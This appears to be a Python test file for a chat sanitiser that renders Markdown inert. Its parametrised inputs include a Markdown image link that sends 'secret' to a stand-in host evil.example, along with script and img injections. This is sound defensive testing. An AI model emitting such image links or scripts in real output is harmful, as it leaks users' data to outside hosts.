"""Words of documents and models in a chat message: Markdown shows them and does nothing more."""

import pytest
from markdown_it import MarkdownIt

from api.chat.wording import inert


@pytest.mark.parametrize(
    "hostile",
    [
        "![図](https://evil.example/?q=秘密)",
        "![図][1]\n\n[1]: https://evil.example/x.png",
        "[省令](https://evil.example/)",
        "[省令]: https://evil.example/",
        '<img src="https://evil.example/">',
        "<script>alert(1)</script>",
        "<https://evil.example/>",
    ],
)
def test_nothing_is_loaded_or_led_to(hostile: str) -> None:
    html = MarkdownIt("commonmark").render(inert(hostile))
    assert "<img" not in html
    assert "<script" not in html
    assert "href" not in html


def test_marks_and_plain_words_stay_as_they_are() -> None:
    text = "予算は120億円（R&D_2）<5%である[1]。"
    assert inert(text) == text


def test_a_row_of_a_table_is_one_line_of_words() -> None:
    assert inert("1\t東京-横浜\t日本") == "1　東京-横浜　日本"
